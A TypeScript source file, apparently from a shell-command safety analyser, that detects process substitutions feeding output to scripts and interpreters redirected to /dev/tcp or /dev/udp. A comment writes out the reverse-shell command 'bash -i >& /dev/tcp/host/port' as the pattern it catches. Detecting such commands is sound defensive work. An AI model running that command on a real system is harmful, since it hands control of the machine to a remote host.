/** Finds who is fed what a command is given or prints: commands in `>(…)`, and other hosts. */
import type { Command, ParsedScript, Redirection } from 'unbash';
import { PROGRAMS } from '../catalogue/programs.js';
import type { Argument } from './argument.js';

/** The scripts among the words of a command. */
export function receiversOf({ args }: Command): readonly ParsedScript[] {
  const found: ParsedScript[] = [];
  for (const word of args) {
    if (word.type !== 'Word' || !word.text.includes('>(') || word.parts === undefined) continue;
    for (const part of word.parts) {
      if (part.type === 'ProcessSubstitution' && part.operator === '>' && part.script !== undefined)
        found.push(part.script);
    }
  }
  return found;
}

/** The script that `> >(sh)` hands what is printed; null where a file takes it. */
export function receiverOf(redirection: Redirection): ParsedScript | null {
  if (redirection.type === 'HereDoc' || !redirection.operator.startsWith('>')) return null;
  const [part] = redirection.target?.parts ?? [];
  return part?.type === 'ProcessSubstitution' && part.operator === '>' ? (part.script ?? null) : null;
}

/** `bash -i >& /dev/tcp/host/port`: what the other host says is run. */
export function isShellOnLine(name: Argument | undefined, redirects: Command['redirects']): boolean {
  if (name === undefined || redirects.length === 0) return false;
  if (PROGRAMS.get(name.text.slice(name.text.lastIndexOf('/') + 1))?.extractor !== 'interpreter')
    return false;
  return redirects.some(
    (redirect) => redirect.type !== 'HereDoc' && /^\/dev\/(?:tcp|udp)\//.test(redirect.target?.text ?? ''),
  );
}
